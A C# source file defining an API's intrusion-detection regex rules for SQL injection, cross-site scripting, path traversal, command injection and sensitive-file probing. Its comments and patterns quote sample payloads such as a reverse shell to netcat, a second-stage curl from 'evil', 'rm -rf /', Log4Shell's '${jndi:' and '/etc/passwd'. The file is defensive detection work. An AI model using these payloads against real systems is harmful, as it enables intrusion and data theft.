using System.Text.RegularExpressions;

namespace Surveillance.Api.Edge;

/// <summary>Where a value is used, which decides the rule families that apply to it.</summary>
public enum InputContext
{
    /// <summary>A path, query, form, multipart or JSON value: every family applies.</summary>
    General,

    /// <summary>
    /// The <c>query</c> of POST /surveillance/search. It is data, never code, and is never put into SQL
    /// text, so <c>'; DROP TABLE users; --</c> is an ordinary search (API.md): every family but SQL applies.
    /// Script, traversal, command and sensitive-file payloads still count, as they have no meaning as a
    /// search and only probe for a renderer, file API or shell that would run them.
    /// </summary>
    SearchQuery,
}

/// <summary>
/// The intrusion-detection rules of API.md ("Rate limits and intrusion detection"). Stateless and
/// thread-safe; every pattern runs on the NonBacktracking engine, so matching is linear in the input
/// and a crafted value cannot make it backtrack (ReDoS). Values are inspected whole: there is no
/// length past which a payload could hide.
/// </summary>
public static partial class ThreatRules
{
    // Patterns see canonical text (InputCanonicalizer): lower case, single spaces, no control characters.
    private const RegexOptions Options = RegexOptions.NonBacktracking | RegexOptions.CultureInvariant;

    // SQL whitespace as a parser sees it: spaces, inline comments, and a parenthesis before a sub-select.
    private const string SqlGap = @"(?:\s|/\*[^*]*\*/|\()+";

    private const string Sql =
        // UNION-based extraction appends the attacker's SELECT to ours.
        @"\bunion" + SqlGap + @"(?:(?:all|distinct)" + SqlGap + @")?select\b" +
        // A quote that closes our literal, then a tautology: ' or '1'='1, "or 1=1, ') or ('a'='a, 'or''='.
        @"|['""]\)*\s*(?:(?:or|and|xor)\b|\|\||&&)[\s(]*(?:'[^']*'|""[^""]*""|[a-z0-9_.]+)\s*(?:=|<>|!=|<=|>=|<|>|\blike\b|\bis\b)" +
        // A quote, a boolean literal and a comment that cuts off the rest of our query: ' or true--.
        @"|['""]\)*\s*(?:or|and)\s+(?:true|false|not|\d+)[\s)]*(?:--|#|/\*|;)" +
        // A comment right after a closing quote, or ending the value: admin'-- logs in without the password check.
        // ("said 'no' -- then" is prose, so a spaced comment only counts at the end.)
        @"|\w['""]\)*(?:--|#|/\*)|\w['""]\)*\s+(?:--|#)$" +
        // A stacked statement after a terminator: '; drop table users; --.
        @"|;\s*(?:drop\s+(?:table|database|schema|view|index|user|role|function|procedure)\b|delete\s+from\b" +
        @"|insert\s+into\b|update\s+[a-z0-9_.""]+\s+set\b|truncate\s+(?:table\s+)?[a-z0-9_""]|alter\s+(?:table|user|role|database|system)\b" +
        @"|create\s+(?:table|user|role|function|database|trigger)\b|exec(?:ute)?\s+(?:xp_|sp_|master)|shutdown\b" +
        @"|copy\s+\S+\s+(?:from|to)\s+program\b)" +
        // Time-based blind injection: the answer leaks through how long the query sleeps.
        @"|\b(?:pg_sleep|benchmark)\s*\(|\bsleep\(\s*\d|\bwaitfor\s+delay\s" +
        // Catalogue probing and file or shell access that only SQL speaks.
        @"|\binformation_schema\b|\bpg_catalog\b|\bxp_cmdshell\b|\bload_file\s*\(|\bpg_read_file\s*\(|\binto\s+(?:out|dump)file\b|@@version\b";

    private const string Script =
        // Elements that run code or load it from elsewhere ("< script" is text to a browser, not a tag).
        @"</?(?:script|iframe|frame|frameset|object|embed|applet|meta|base)\b" +
        // Script URLs; browsers drop tabs and newlines inside a scheme, so "java\tscript:" runs too.
        @"|j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t\s*:|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t\s*:|\bdata\s*:\s*text/html\b" +
        // An event-handler attribute inside a tag: <img src=x onerror=alert(1)>, <svg/onload=...>.
        @"|<[a-z!/?][^>]*[\s/""']on[a-z]{3,}\s*=" +
        // Or one that breaks out of an attribute value: " onmouseover="alert(1).
        @"|['""][\s/]*on[a-z]{3,}\s*=";

    private const string Traversal =
        // ../ and ..\ (also inside ....// and after Tomcat's ..;/), and a trailing /.. that climbs one level.
        @"\.\.(?:;[^/\\]*)?[/\\]|[/\\]\.\.(?:;|$)|^\.\.$";

    private const string Command =
        // Shell interpreters a payload asks to start.
        @"\b(?:cmd|powershell|pwsh)\.exe\b|\bcmd\s*/[ck]\s|/bin/(?:ba|z|da|k|c|tc)?sh\b" +
        // Chained destructive or reconnaissance commands: ; rm -rf /, && whoami.
        @"|(?:;|&&|\|\|?)\s*(?:rm\s+-[a-z]*[rf]|whoami\b|uname\s+-a\b|ifconfig\b|ipconfig\b)" +
        // Output piped into a shell or a reverse-shell tool: | nc 10.0.0.1 4444.
        @"|\|\s*(?:nc|ncat|netcat|sh|bash|telnet)\b" +
        // Fetching a second stage: ; curl http://evil/x.sh.
        @"|(?:;|&&|\|)\s*(?:wget|curl)\s+(?:-\S*\s+)*['""]?(?:https?|ftp)://" +
        // Command substitution: $(id), `uname -a`; and the ${IFS} space trick and Log4Shell's ${jndi:.
        @"|\$\(\s*[a-z][^)]*\)|`\s*(?:id|whoami|uname|ls|cat|wget|curl|nc|bash|sh|rm|ping|sleep|echo|python3?|perl|nslookup)\b[^`]*`" +
        @"|\$\{ifs\}|\$\{jndi:";

    private const string Sensitive =
        // Files whose contents give an attacker accounts, secrets or the process environment.
        @"\betc[/\\]+(?:passwd|shadow)\b|\bproc[/\\]+self[/\\]|\bwin\.ini\b|\bboot\.ini\b|\.htpasswd\b|\.ssh[/\\]+(?:id_|authorized_keys)";

    /// <summary>
    /// The first rule family <paramref name="value"/> matches, in <see cref="ThreatKind"/> order, or null.
    /// </summary>
    /// <param name="value">The value as the request carried it (decoded once by ASP.NET or not at all).</param>
    /// <param name="location">Where it came from: <c>path</c>, <c>query:q</c>, <c>json:$.description</c>,
    /// <c>form:username</c>, <c>multipart:filename</c>. The <c>query:</c> and <c>form:</c> prefixes mean
    /// URL-encoded form syntax, where a further decoding turns '+' into a space.</param>
    /// <param name="context">Which families apply.</param>
    public static ThreatFinding? Inspect(string value, string location, InputContext context = InputContext.General)
    {
        ArgumentNullException.ThrowIfNull(location);
        if (string.IsNullOrEmpty(value))
        {
            return null;
        }

        var plusIsSpace = location.StartsWith("query:", StringComparison.Ordinal) || location.StartsWith("form:", StringComparison.Ordinal);
        var canonical = InputCanonicalizer.Canonicalize(value, plusIsSpace);
        ThreatKind? kind =
            context != InputContext.SearchQuery && SqlRule().IsMatch(canonical) ? ThreatKind.SqlInjection
            : ScriptRule().IsMatch(canonical) ? ThreatKind.ScriptInjection
            : TraversalRule().IsMatch(canonical) ? ThreatKind.PathTraversal
            : CommandRule().IsMatch(canonical) ? ThreatKind.CommandInjection
            : SensitiveRule().IsMatch(canonical) ? ThreatKind.SensitiveFile
            : null;
        return kind is { } found ? new ThreatFinding(found, location) : null;
    }

    [GeneratedRegex(Sql, Options)]
    private static partial Regex SqlRule();

    [GeneratedRegex(Script, Options)]
    private static partial Regex ScriptRule();

    [GeneratedRegex(Traversal, Options)]
    private static partial Regex TraversalRule();

    [GeneratedRegex(Command, Options)]
    private static partial Regex CommandRule();

    [GeneratedRegex(Sensitive, Options)]
    private static partial Regex SensitiveRule();
}
